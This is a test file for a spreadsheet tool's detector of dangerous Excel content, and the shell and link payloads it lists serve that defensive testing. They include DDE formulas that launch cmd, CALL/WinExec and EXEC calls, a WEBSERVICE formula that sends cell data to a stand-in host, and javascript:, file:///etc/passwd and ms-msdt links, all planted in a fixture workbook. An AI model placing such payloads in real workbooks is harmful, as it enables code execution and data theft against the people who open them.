/**
 * Dangerous content — DDE, WEBSERVICE and friends, links to other workbooks, script and file
 * hyperlinks: found by DANGEROUS_CONTENT with the cell, frozen by send-safe (counted), and never
 * written live by annex or convert. Real .xlsx files: written by exceljs, external-link parts
 * injected as Excel writes them.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import fc from 'fast-check';
import ExcelJS from 'exceljs';
import { formulaDanger, linkDanger } from '../../src/core/book/danger';
import { runChecks } from '../../src/core/checks/engine';
import { LAI_CHAU_2024 } from '../../src/core/examples/lai-chau-2024';
import { buildPlanWithAnnexes } from '../../src/core/book/annex/generate';
import { descriptionToXlsx, xlsxToSnapshot } from '../../src/workbook/exceljs';
import { buildKh, messagePattern, runKh } from './kh-process';
import { readZip, rezip } from './zip';

describe('what is dangerous', () => {
  test.each([
    ["=cmd|'/c calc'!A1", 'dde'],
    ["= cmd |'/c calc'!A1", 'dde'],
    ["=msexcel|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A1", 'dde'],
    ["=@SUM(1+1)*cmd|' /C calc'!A0", 'dde'],
    ['=DDE("cmd";"/c calc";"x")', 'function'],
    ['=WEBSERVICE("http://x.invalid")', 'function'],
    ['=_xlfn.WEBSERVICE("http://x.invalid")', 'function'],
    ['=filterxml(A1,"//a")', 'function'],
    ['=CALL("Kernel32","WinExec","JCJ","calc",0)', 'function'],
    ['=REGISTER("user32","MessageBoxA","JJCCJ")', 'function'],
    ['=REGISTER.ID("user32","MessageBoxA")', 'function'],
    ['=EXEC("calc")', 'function'],
    ['=1+RTD("srv",,"x")', 'function'],
    ['=[1]DA4!H8', 'external'],
    ['=SUM([Dự toán.xlsx]DA4!H8:H9)', 'external'],
    ["='\\\\may-chu\\chia-se\\[KH.xlsx]Tổng hợp'!C7", 'external'],
    ["='[KH huyện.xlsx]DA 4'!H8*2", 'external'],
    ['=1+[KH.xlsx]DA4!A1', 'external'],
    ['=HYPERLINK("file:///C:/Windows/System32/cmd.exe")', 'link'],
    ['=HYPERLINK("\\\\host\\share\\x.exe","Mở")', 'link'],
  ])('%s → %s', (formula, kind) => expect(formulaDanger(formula)?.kind).toBe(kind));

  test.each(['=SUM(E8:E12)', '="cmd|\'/c calc\'!A1"', "='Thu|Chi'!A1", '=MYCALL(1)', '=SUM(RUNS)', '=HYPERLINK("https://mof.gov.vn")', '=KH.BANGCHU(E7)', "=SUMIFS('DA4'!E:E,'DA4'!$O:$O,\"DA4\")", '=Bang1[@Tổng]*DA4!E7', "=Bang1[Tổng] + 'Kế hoạch'!A1", '=Bang1[[#This Row],[Mã]]&Sheet1!A1', null, ''])('%p is not', (formula) => expect(formulaDanger(formula)).toBeNull());

  test.each(['javascript:alert(1)', ' JavaScript:x', 'vbscript:x', 'file:///etc/passwd', 'FILE://host/x', '\\\\may-chu\\chia-se', '//host/share', 'data:text/html,x', 'ms-msdt:/id x', 'search-ms:query=x'])('link %p is dangerous', (t) => expect(linkDanger(t)?.kind).toBe('link'));
  test.each(['https://mof.gov.vn', 'http://x', "#'Tổng hợp'!A1", 'mailto:a@b.vn', 'Sheet1!A1'])('link %p is not', (t) => expect(linkDanger(t)).toBeNull());

  test('any formula inside a string literal is inert; any formula answers without throwing', () => {
    const dangerous = fc.constantFrom("cmd|'/c calc'!A1", 'WEBSERVICE("x")', 'CALL("a")', '[1]S!A1');
    fc.assert(fc.property(dangerous, fc.string({ maxLength: 8 }), (d, s) => formulaDanger(`="${d.replace(/"/g, '""')}${s.replace(/"/g, '""')}"`) === null));
    fc.assert(fc.property(fc.string({ maxLength: 80 }), (f) => {
      const r = formulaDanger(f);
      return r === null || ['dde', 'function', 'external', 'link'].includes(r.kind);
    }));
  });
});

/** A KH plan with dangerous content an officer (or an attacker) put in: formulas, hyperlinks, an external-link part. */
async function plantedPlan(): Promise<Buffer> {
  const built = buildPlanWithAnnexes(LAI_CHAU_2024);
  if (!built.ok) throw new Error('example plan does not build');
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await descriptionToXlsx(built.description)) as unknown as ArrayBuffer);
  const ws = wb.getWorksheet('Tổng hợp') as ExcelJS.Worksheet;
  ws.getCell('T20').value = { formula: "cmd|'/c calc'!A1", result: 0 } as ExcelJS.CellFormulaValue;
  ws.getCell('T21').value = { formula: 'WEBSERVICE("http://x.invalid/?d="&E7)', result: '' } as ExcelJS.CellFormulaValue;
  ws.getCell('T22').value = { formula: '[1]DA4!H8', result: 530 } as ExcelJS.CellFormulaValue;
  ws.getCell('T23').value = { text: 'Hướng dẫn', hyperlink: 'javascript:alert(1)' };
  ws.getCell('T24').value = { text: 'Tài liệu', hyperlink: '\\\\may-chu\\chia-se\\a.docx' };
  ws.getCell('T25').value = { text: 'Cổng', hyperlink: 'https://mof.gov.vn' };
  const bytes = Buffer.from(await wb.xlsx.writeBuffer());
  // the external-link part Excel writes for [1]: where it points is in its relationships
  const parts = readZip(bytes);
  const text = (name: string): string => parts.find((p) => p.name === name)?.content.toString('utf8') ?? '';
  const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  return rezip(bytes, {
    '[Content_Types].xml': text('[Content_Types].xml').replace('</Types>', '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>'),
    'xl/_rels/workbook.xml.rels': text('xl/_rels/workbook.xml.rels').replace('</Relationships>', `<Relationship Id="rIdExt1" Type="${REL}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`),
    'xl/workbook.xml': text('xl/workbook.xml').replace('</sheets>', `</sheets><externalReferences><externalReference xmlns:r="${REL}" r:id="rIdExt1"/></externalReferences>`),
    'xl/externalLinks/externalLink1.xml': `<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${REL}"><externalBook r:id="rId1"><sheetNames><sheetName val="DA4"/></sheetNames></externalBook></externalLink>`,
    'xl/externalLinks/_rels/externalLink1.xml.rels': `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/externalLinkPath" Target="file:///\\\\may-chu\\chia-se\\KH-huyen.xlsx" TargetMode="External"/></Relationships>`,
  });
}

function dangerous(snapshot: Awaited<ReturnType<typeof xlsxToSnapshot>>): string[] {
  return runChecks(snapshot)
    .findings.filter((f) => f.rule === 'DANGEROUS_CONTENT')
    .map((f) => `${f.severity} ${f.sheet}!${f.cell}`);
}

describe('in a real workbook', () => {
  let planted: Buffer;
  beforeAll(async () => {
    planted = await plantedPlan();
  });

  test('each is an error with its cell; the external-link part is named by where it points', async () => {
    const snapshot = await xlsxToSnapshot(planted);
    expect(snapshot.externalLinks).toEqual(['file:///\\\\may-chu\\chia-se\\KH-huyen.xlsx']);
    expect(dangerous(snapshot)).toEqual(['error !', 'error Tổng hợp!T20', 'error Tổng hợp!T21', 'error Tổng hợp!T22', 'error Tổng hợp!T23', 'error Tổng hợp!T24']);
    const t22 = runChecks(snapshot).findings.find((f) => f.cell === 'T22' && f.rule === 'DANGEROUS_CONTENT');
    expect(t22?.message.params.what).toBe('file:///\\\\may-chu\\chia-se\\KH-huyen.xlsx');
  });

  describe('the command', () => {
    let kh = '';
    const dir = mkdtempSync(join(tmpdir(), 'kh-danger-'));
    beforeAll(() => {
      kh = buildKh();
      writeFileSync(join(dir, 'cai-bay.xlsx'), planted);
    }, 300_000);

    test('check: exit 1, every one listed with its cell', async () => {
      const r = await runKh(kh, ['check', 'cai-bay.xlsx', '--json'], dir);
      expect(r.code).toBe(1);
      const found = JSON.parse(r.stdout).findings.filter((f: { rule: string }) => f.rule === 'DANGEROUS_CONTENT').map((f: { cell: string }) => f.cell);
      expect(found).toEqual(['', 'T20', 'T21', 'T22', 'T23', 'T24']);
    });

    test('send-safe freezes each to its value, says how many cells it changed, and the output checks clean', async () => {
      const r = await runKh(kh, ['send-safe', 'cai-bay.xlsx'], dir);
      expect(r.code).toBe(0);
      expect(r.stdout).toContain("Tổng hợp!T20: =cmd|'/c calc'!A1 → 0");
      expect(r.stdout).toContain('Tổng hợp!T22: =[1]DA4!H8 → 530');
      expect(r.stdout).toContain('Tổng hợp!T23: javascript:alert(1) → bỏ liên kết, giữ chữ "Hướng dẫn"');
      expect(r.stdout).toMatch(/Đã đổi 5 ô; ghi /);
      const out = await xlsxToSnapshot(readFileSync(join(dir, 'cai-bay.gui-di.xlsx')));
      expect(dangerous(out)).toEqual([]);
      const sheet = out.sheets.find((s) => s.name === 'Tổng hợp');
      expect(sheet?.values[21][19]).toBe(530);
      expect(sheet?.values[22][19]).toBe('Hướng dẫn');
      // the web link is no danger and stays
      expect(sheet?.hyperlinks).toEqual([{ cell: 'T25', target: 'https://mof.gov.vn' }]);
    });

    test.each([
      ['annex', 'cai-bay.bieu.xlsx'],
      ['convert', 'cai-bay.unicode.xlsx'],
    ])('%s never writes them live: frozen, listed, counted', async (command, output) => {
      // the external-link part is lost in any rewrite: refused until the officer accepts it
      expect((await runKh(kh, [command, 'cai-bay.xlsx'], dir)).code).toBe(6);
      const r = await runKh(kh, [command, 'cai-bay.xlsx', '--accept-loss'], dir);
      expect(r.code).toBe(0);
      expect(r.stdout).toMatch(messagePattern('cli.neutralised', 'vi', join(dir, output)));
      expect(r.stdout).toContain('Đã thay 5 ô');
      const out = await xlsxToSnapshot(readFileSync(join(dir, output)));
      expect(dangerous(out)).toEqual([]);
    });

    test('kh new writes a DDE-looking name as text, never as a formula', async () => {
      const spec = { ...LAI_CHAU_2024, items: [{ ...LAI_CHAU_2024.items[0], note: "=cmd|'/c calc'!A1" }, ...LAI_CHAU_2024.items.slice(1)] };
      writeFileSync(join(dir, 'ten-la.json'), JSON.stringify(spec));
      expect((await runKh(kh, ['new', '--plan', 'ten-la.json', '-o', 'ten-la.xlsx'], dir)).code).toBe(0);
      const out = await xlsxToSnapshot(readFileSync(join(dir, 'ten-la.xlsx')));
      expect(dangerous(out)).toEqual([]);
      const cells = out.sheets.flatMap((s) => s.values.flatMap((row, r) => row.map((v, c) => ({ v, f: s.formulas[r]?.[c] ?? null })))).filter((x) => x.v === "=cmd|'/c calc'!A1");
      expect(cells.length).toBeGreaterThan(0);
      expect(cells.every((x) => x.f === null)).toBe(true);
    });
  });
});
